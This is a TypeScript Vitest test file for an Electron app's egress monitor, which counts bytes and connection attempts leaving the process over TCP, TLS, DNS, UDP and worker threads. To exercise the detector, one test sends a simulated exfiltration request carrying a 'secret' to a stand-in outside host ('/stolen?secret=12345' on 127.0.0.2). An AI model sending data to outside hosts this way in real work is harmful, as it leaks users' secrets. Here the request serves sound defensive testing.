import { createSocket } from 'node:dgram';
import dns from 'node:dns';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { connect as connectTls, createServer as createTlsServer } from 'node:tls';
import { Worker } from 'node:worker_threads';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { watchEgress, type Egress } from '#electron/host/egress.ts';

// Everything stays on this machine: 127.0.0.2 plays the world outside.
const isOutside = (address: string): boolean => address !== '127.0.0.1' && address !== 'localhost';
const ends: (() => void)[] = [];
afterEach(() => { for (const end of ends.splice(0).toReversed()) end(); });

/** The sums go on over the whole process, so each test looks at what it added. */
function watch(): { readonly egress: Egress; readonly bytes: () => number; readonly attempts: () => number } {
  const egress = watchEgress(isOutside);
  ends.push(() => { egress.stop(); });
  const bytes = egress.bytes(), attempts = egress.attempts();
  return { egress, bytes: () => egress.bytes() - bytes, attempts: () => egress.attempts() - attempts };
}

async function listen(server: Server, host: string): Promise<number> {
  await new Promise<void>((resolve) => { server.listen(0, host, resolve); });
  ends.push(() => { server.close(); });
  return (server.address() as AddressInfo).port;
}
const sink = (): Server => createServer((socket) => { socket.resume(); socket.on('end', () => { socket.end(); }); });

async function sendTo(port: number, host: string, text: string): Promise<void> {
  await new Promise<void>((resolve) => { const socket = connect({ port, host }, () => { socket.end(text); }); socket.resume(); socket.on('close', () => { resolve(); }); });
}

describe('what leaves', () => {
  it('counts a planted connection byte by byte, and nothing of a local one', async () => {
    const { bytes, attempts } = watch();
    await sendTo(await listen(sink(), '127.0.0.1'), '127.0.0.1', 'x'.repeat(5000));
    expect([bytes(), attempts()]).toEqual([0, 0]);
    await sendTo(await listen(sink(), '127.0.0.2'), '127.0.0.2', 'x'.repeat(1234));
    expect([bytes(), attempts()]).toEqual([1234, 1]);
  });

  it('counts while the connection is still open', async () => {
    const { bytes } = watch();
    const port = await listen(sink(), '127.0.0.2');
    const socket = connect({ port, host: '127.0.0.2' });
    await new Promise<void>((resolve) => { socket.write('hello', () => { resolve(); }); });
    expect(bytes()).toBe(5);
    socket.destroy();
  });

  it('counts what fetch sends', async () => {
    const { bytes } = watch();
    const server = createServer((socket) => { socket.on('data', () => { socket.end('HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n'); }); });
    const port = await listen(server, '127.0.0.2');
    await fetch(`http://127.0.0.2:${port}/stolen?secret=12345`);
    expect(bytes()).toBeGreaterThan('GET /stolen?secret=12345'.length);
  });

  it('counts TLS with its overhead', async () => {
    const { bytes } = watch();
    const psk = Buffer.alloc(32, 7), ciphers = 'PSK+HIGH:TLS_AES_128_GCM_SHA256';
    const server = createTlsServer({ ciphers, maxVersion: 'TLSv1.2', pskCallback: () => psk }, (socket) => { socket.resume(); });
    const port = await listen(server, '127.0.0.2');
    const socket = connectTls({ port, host: '127.0.0.2', ciphers, maxVersion: 'TLSv1.2', pskCallback: () => ({ psk, identity: 'test' }), checkServerIdentity: () => undefined });
    await new Promise<void>((resolve, reject) => { socket.on('error', reject); socket.on('secureConnect', () => { socket.write('x'.repeat(1000), () => { resolve(); }); }); });
    // A handshake with an empty record around each message: more than went in.
    expect(bytes()).toBeGreaterThan(1100);
    socket.destroy();
  });

  it('counts a name that was looked up, and not an address or this machine', async () => {
    const { bytes, attempts } = watch();
    await dns.promises.lookup('127.0.0.2');
    await dns.promises.lookup('localhost');
    expect([bytes(), attempts()]).toEqual([0, 0]);
    dns.lookup('planted.invalid', () => undefined);
    expect([bytes(), attempts()]).toEqual([33, 1]);
    connect({ port: 1, host: 'planted.invalid' }).on('error', () => undefined).destroy();
    expect(attempts()).toBe(2);
  });

  it('counts a datagram', async () => {
    const { bytes, attempts } = watch();
    const socket = createSocket('udp4');
    ends.push(() => { socket.close(); });
    await new Promise((resolve) => { socket.send('local', 9, '127.0.0.1', resolve); });
    await new Promise((resolve) => { socket.send(Buffer.from('0123456789'), 2, 5, 9, '127.0.0.2', resolve); });
    expect([bytes(), attempts()]).toEqual([5, 1]);
  });

  it('counts what another thread sends', async () => {
    const { bytes } = watch();
    const port = await listen(sink(), '127.0.0.2');
    const source = join(import.meta.dirname, '../../../electron/host/egress.ts');
    const worker = new Worker(`import(${JSON.stringify(source)}).then(async ({ watchEgress }) => {
      const egress = watchEgress((address) => address === '127.0.0.2');
      const { connect } = await import('node:net');
      const socket = connect({ port: ${port}, host: '127.0.0.2' }, () => { socket.end('from a thread'); });
      socket.resume().on('close', () => { egress.stop(); });
    });`, { eval: true });
    await new Promise((resolve, reject) => { worker.on('exit', resolve); worker.on('error', reject); });
    expect(bytes()).toBe('from a thread'.length);
  });

  it('counts once, however many watch, until the last one stops', async () => {
    const one = watch(), two = watch();
    const port = await listen(sink(), '127.0.0.2');
    await sendTo(port, '127.0.0.2', 'x'.repeat(100));
    two.egress.stop();
    two.egress.stop();
    await sendTo(port, '127.0.0.2', 'x'.repeat(10));
    expect([one.bytes(), two.bytes()]).toEqual([110, 110]);
  });

  it('leaves Node as it was when it stops', () => {
    const before = [dns.lookup, connect];
    const egress = watchEgress();
    expect(dns.lookup).not.toBe(before[0]);
    egress.stop();
    expect([dns.lookup, connect]).toEqual(before);
  });
});
